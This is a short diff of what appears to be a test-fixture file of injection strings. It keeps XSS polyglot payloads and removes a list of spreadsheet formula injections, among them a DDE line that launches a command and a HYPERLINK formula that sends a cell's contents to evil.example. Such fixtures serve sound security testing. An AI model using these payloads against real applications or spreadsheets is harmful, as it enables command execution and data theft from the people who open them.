@@ -80,13 +80,3 @@ export const SCRIPT_INJECTIONS: readonly string[] = [
   "';window.hacked=1;//",
   "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hacked=1//'>",
 ]
-
-/** Texts that a spreadsheet would run as a formula. */
-export const FORMULA_INJECTIONS: readonly string[] = [
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
-  '+1+1',
-  '-2+3',
-  '@SUM(1+1)',
-  '\t=1+1',
-]
